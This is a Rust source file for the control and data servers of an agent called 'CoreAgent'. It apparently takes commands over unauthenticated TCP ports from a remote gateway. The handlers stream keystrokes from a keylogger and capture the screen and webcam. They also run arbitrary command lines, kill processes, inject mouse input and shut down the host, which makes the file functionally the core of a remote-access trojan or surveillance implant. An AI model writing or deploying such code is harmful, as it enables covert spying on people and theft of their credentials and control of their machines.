//! Agent control and data servers
//!
//! The control listener (port P) accepts gateway links carrying framed
//! command packets; one task per connection. Responses are framed and
//! echoed with the peer's `backend_id`, falling back to 1 when the peer
//! sends 0 (single-agent deployments never learn their slot id).
//!
//! Each connection owns two outbound channels: an unbounded critical
//! channel for command responses and keylog events (ordering preserved)
//! and a bounded video channel that drops on overflow, so a stalled link
//! can never block the encoder thread publishing into the bus.
//!
//! The data listener (port P+1) serves the raw tagged monitor stream
//! with no per-packet framing; the gateway wraps those bytes itself.

use std::collections::HashSet;
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use tokio::io::AsyncWriteExt;
use tokio::net::tcp::OwnedWriteHalf;
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::mpsc;
use tracing::{debug, info, warn};

use crate::agent::apps::AppManager;
use crate::agent::commands::{format_apps, format_procs, Command};
use crate::agent::input::{InputInjector, MouseButton};
use crate::agent::keylog::{KeyEvent, Keylogger};
use crate::bus::{BroadcastBus, SinkStatus, VideoPacket};
use crate::config::AgentConfig;
use crate::error::AgentError;
use crate::protocol::frame::{read_frame, write_frame};
use crate::protocol::tag;
use crate::session::StreamSession;

pub const AGENT_NAME: &str = "CoreAgent";

/// Outbound video channel depth per connection; overflow drops frames at
/// the bus, which applies the kind-aware policy.
const VIDEO_CHANNEL_DEPTH: usize = 16;

const MOUSE_CLICK_GAP: Duration = Duration::from_millis(20);

/// Data-channel subscribers get ids from a range no gateway client uses.
static DATA_SUBSCRIBER_ID: AtomicU32 = AtomicU32::new(0x4441_0000);

/// Everything a connection needs to execute commands.
pub struct AgentContext {
    pub config: AgentConfig,
    pub monitor_bus: Arc<BroadcastBus>,
    pub webcam_bus: Arc<BroadcastBus>,
    pub monitor_session: Arc<StreamSession>,
    pub webcam_session: Arc<StreamSession>,
    pub keylogger: Arc<dyn Keylogger>,
    pub apps: Arc<dyn AppManager>,
    pub input: Arc<dyn InputInjector>,
}

#[derive(Debug)]
struct OutPacket {
    client_id: u32,
    backend_id: u32,
    tag: Option<u8>,
    payload: Bytes,
}

/// Cloneable sender half of one connection's outbound plumbing.
#[derive(Clone)]
struct ConnectionTx {
    critical: mpsc::UnboundedSender<OutPacket>,
    video: mpsc::Sender<OutPacket>,
}

impl ConnectionTx {
    fn send_text(&self, client_id: u32, backend_id: u32, text: &str) {
        let _ = self.critical.send(OutPacket {
            client_id,
            backend_id,
            tag: None,
            payload: Bytes::copy_from_slice(text.as_bytes()),
        });
    }

    /// Bus sink for video packets toward one subscriber id.
    fn video_sink(
        &self,
        client_id: u32,
        backend_id: u32,
        stream_tag: u8,
    ) -> Box<dyn FnMut(&VideoPacket) -> SinkStatus + Send> {
        let tx = self.video.clone();
        Box::new(move |pkt| {
            let out = OutPacket {
                client_id,
                backend_id,
                tag: Some(stream_tag),
                payload: pkt.data.clone(),
            };
            match tx.try_send(out) {
                Ok(()) => SinkStatus::Sent,
                Err(mpsc::error::TrySendError::Full(_)) => SinkStatus::Busy,
                Err(mpsc::error::TrySendError::Closed(_)) => SinkStatus::Closed,
            }
        })
    }
}

/// Accept loop for the control port.
pub async fn run_control_listener(ctx: Arc<AgentContext>) -> anyhow::Result<()> {
    let listener = TcpListener::bind(("0.0.0.0", ctx.config.port)).await?;
    info!(port = ctx.config.port, "control channel listening");

    loop {
        let (stream, peer) = listener.accept().await?;
        let ctx = Arc::clone(&ctx);
        tokio::spawn(async move {
            info!(peer = %peer, "control connection accepted");
            if let Err(e) = serve_control(ctx, stream).await {
                debug!(peer = %peer, error = %e, "control connection ended");
            }
            info!(peer = %peer, "control connection closed");
        });
    }
}

/// Accept loop for the data port: raw tagged monitor stream.
pub async fn run_data_listener(ctx: Arc<AgentContext>) -> anyhow::Result<()> {
    let listener = TcpListener::bind(("0.0.0.0", ctx.config.data_port())).await?;
    info!(port = ctx.config.data_port(), "data channel listening");

    loop {
        let (stream, peer) = listener.accept().await?;
        let ctx = Arc::clone(&ctx);
        tokio::spawn(async move {
            info!(peer = %peer, "data connection accepted");
            serve_data(ctx, stream).await;
            info!(peer = %peer, "data connection closed");
        });
    }
}

async fn serve_control(ctx: Arc<AgentContext>, stream: TcpStream) -> anyhow::Result<()> {
    stream.set_nodelay(true)?;
    let (mut reader, writer) = stream.into_split();

    let (critical_tx, critical_rx) = mpsc::unbounded_channel();
    let (video_tx, video_rx) = mpsc::channel(VIDEO_CHANNEL_DEPTH);
    let conn = ConnectionTx {
        critical: critical_tx,
        video: video_tx,
    };

    let writer_task = tokio::spawn(write_loop(writer, critical_rx, video_rx));

    // Legacy fallback: a peer that always sends backend_id 0 is a
    // single-agent deployment and is addressed as 1.
    let mut my_backend_id = 1u32;
    let mut seen_clients: HashSet<u32> = HashSet::new();

    loop {
        let frame = match read_frame(&mut reader).await {
            Ok(Some(frame)) => frame,
            Ok(None) => break,
            Err(e) => {
                warn!(error = %e, "control channel protocol error");
                break;
            }
        };

        let client_id = frame.header.client_id;
        if frame.header.backend_id != 0 {
            my_backend_id = frame.header.backend_id;
        }

        let text = String::from_utf8_lossy(&frame.payload).into_owned();
        let command = Command::parse(&text);

        if !matches!(command, Command::MouseMove(_, _)) {
            debug!(client_id, command = %text.trim_end_matches('\0'), "command received");
        }

        seen_clients.insert(client_id);
        handle_command(&ctx, &conn, client_id, my_backend_id, command).await;
    }

    // Connection teardown leaves sessions running (other clients may be
    // subscribed through other connections); only our subscribers go.
    for cid in seen_clients {
        ctx.monitor_bus.unsubscribe(cid);
        ctx.webcam_bus.unsubscribe(cid);
    }

    writer_task.abort();
    Ok(())
}

async fn write_loop(
    mut writer: OwnedWriteHalf,
    mut critical_rx: mpsc::UnboundedReceiver<OutPacket>,
    mut video_rx: mpsc::Receiver<OutPacket>,
) {
    loop {
        let packet = tokio::select! {
            biased;
            Some(p) = critical_rx.recv() => p,
            Some(p) = video_rx.recv() => p,
            else => break,
        };

        if let Err(e) = write_frame(
            &mut writer,
            packet.client_id,
            packet.backend_id,
            packet.tag,
            &packet.payload,
        )
        .await
        {
            debug!(error = %e, "control write failed, stopping writer");
            break;
        }
    }
}

async fn serve_data(ctx: Arc<AgentContext>, stream: TcpStream) {
    if let Err(e) = stream.set_nodelay(true) {
        debug!(error = %e, "set_nodelay failed on data channel");
    }

    let subscriber_id = DATA_SUBSCRIBER_ID.fetch_add(1, Ordering::Relaxed);
    let (tx, mut rx) = mpsc::channel::<Bytes>(VIDEO_CHANNEL_DEPTH);

    // Raw hop: one tag byte then the chunk, no 12-byte header.
    ctx.monitor_bus.subscribe(
        subscriber_id,
        Box::new(move |pkt| {
            let mut buf = Vec::with_capacity(1 + pkt.data.len());
            buf.push(tag::MONITOR);
            buf.extend_from_slice(&pkt.data);
            match tx.try_send(Bytes::from(buf)) {
                Ok(()) => SinkStatus::Sent,
                Err(mpsc::error::TrySendError::Full(_)) => SinkStatus::Busy,
                Err(mpsc::error::TrySendError::Closed(_)) => SinkStatus::Closed,
            }
        }),
    );

    if let Err(e) = ctx.monitor_session.start() {
        if !matches!(e, AgentError::Busy(_)) {
            warn!(error = %e, "monitor session failed for data channel");
        }
    }

    let (_read_half, mut write_half) = stream.into_split();
    while let Some(chunk) = rx.recv().await {
        if write_half.write_all(&chunk).await.is_err() {
            break;
        }
    }

    ctx.monitor_bus.unsubscribe(subscriber_id);
}

async fn handle_command(
    ctx: &Arc<AgentContext>,
    conn: &ConnectionTx,
    cid: u32,
    bid: u32,
    command: Command,
) {
    match command {
        Command::Ping => {
            conn.send_text(cid, bid, &format!("INFO:NAME={AGENT_NAME}"));
        }

        Command::GetState => {
            let report = |name: &str, active: bool| {
                format!(
                    "STATUS:SYNC:{}={}",
                    name,
                    if active { "active" } else { "inactive" }
                )
            };
            conn.send_text(cid, bid, &report("monitor", ctx.monitor_session.is_active()));
            conn.send_text(cid, bid, &report("webcam", ctx.webcam_session.is_active()));
            conn.send_text(cid, bid, &report("keylogger", ctx.keylogger.is_active()));
            conn.send_text(cid, bid, "STATUS:SYNC:complete");
        }

        Command::StartMonitorStream => {
            ctx.monitor_bus
                .subscribe(cid, conn.video_sink(cid, bid, tag::MONITOR));
            match ctx.monitor_session.start() {
                Ok(()) | Err(AgentError::Busy(_)) => {
                    conn.send_text(cid, bid, "STATUS:MONITOR_STREAM:STARTED");
                }
                Err(e) => conn.send_text(cid, bid, &format!("ERROR:StartStream:{e}")),
            }
        }

        Command::StopMonitorStream => {
            ctx.monitor_bus.unsubscribe(cid);
            ctx.monitor_session.stop();
            conn.send_text(cid, bid, "STATUS:MONITOR_STREAM:STOPPED");
        }

        Command::StartWebcamStream => {
            ctx.webcam_bus
                .subscribe(cid, conn.video_sink(cid, bid, tag::WEBCAM));
            match ctx.webcam_session.start() {
                Ok(()) | Err(AgentError::Busy(_)) => {
                    conn.send_text(cid, bid, "STATUS:WEBCAM_STREAM:STARTED");
                }
                Err(e) => conn.send_text(cid, bid, &format!("ERROR:StartStream:{e}")),
            }
        }

        Command::StopWebcamStream => {
            ctx.webcam_bus.unsubscribe(cid);
            ctx.webcam_session.stop();
            conn.send_text(cid, bid, "STATUS:WEBCAM_STREAM:STOPPED");
        }

        Command::StartKeylog => {
            let events = conn.clone();
            let result = ctx.keylogger.start(Box::new(move |event: KeyEvent| {
                events.send_text(cid, bid, &format!("KEYLOG: {}", event.text));
            }));
            match result {
                Ok(()) => conn.send_text(cid, bid, "STATUS:KEYLOGGER:STARTED"),
                Err(e) => conn.send_text(cid, bid, &format!("ERROR:Keylog:{e}")),
            }
        }

        Command::StopKeylog => {
            ctx.keylogger.stop();
            conn.send_text(cid, bid, "STATUS:KEYLOGGER:STOPPED");
        }

        Command::ListApps => {
            let apps = ctx.apps.list_installed();
            conn.send_text(cid, bid, &format_apps(&apps));
        }

        Command::ListProcess => {
            let procs = ctx.apps.list_processes();
            conn.send_text(cid, bid, &format_procs(&procs));
        }

        Command::LaunchApp(command_line) => match ctx.apps.launch(&command_line) {
            Ok(pid) => conn.send_text(cid, bid, &format!("STATUS:APP_LAUNCHED:{pid}")),
            Err(e) => conn.send_text(cid, bid, &format!("ERROR:Launch:{e}")),
        },

        Command::KillProcess(pid) => {
            if let Err(e) = ctx.apps.kill(pid) {
                warn!(pid, error = %e, "kill_process failed");
            }
            conn.send_text(cid, bid, "STATUS:PROCESS_KILLED");
        }

        Command::SearchApps(query) => {
            let hits = ctx.apps.search(&query);
            conn.send_text(cid, bid, &format_apps(&hits));
        }

        Command::MouseMove(x, y) => {
            if let Err(e) = ctx.input.move_mouse(x, y) {
                debug!(error = %e, "mouse move failed");
            }
        }

        Command::MouseDown(button) => {
            inject_button(ctx, button, true);
        }

        Command::MouseUp(button) => {
            inject_button(ctx, button, false);
        }

        Command::MouseClick(button) => {
            inject_button(ctx, button, true);
            tokio::time::sleep(MOUSE_CLICK_GAP).await;
            inject_button(ctx, button, false);
        }

        Command::Shutdown => {
            conn.send_text(cid, bid, "INFO:System Shutdown Initiated");
            if let Err(e) = ctx.apps.shutdown_system() {
                warn!(error = %e, "shutdown failed");
            }
        }

        Command::Restart => {
            conn.send_text(cid, bid, "INFO:System Restart Initiated");
            if let Err(e) = ctx.apps.restart_system() {
                warn!(error = %e, "restart failed");
            }
        }

        Command::Unknown(text) => {
            if !text.is_empty() {
                debug!(command = %text, "unknown command ignored");
            }
        }
    }
}

fn inject_button(ctx: &AgentContext, code: u8, down: bool) {
    let Some(button) = MouseButton::from_code(code) else {
        debug!(code, "unknown mouse button code");
        return;
    };
    if let Err(e) = ctx.input.press_mouse(button, down) {
        debug!(error = %e, "mouse button injection failed");
    }
}
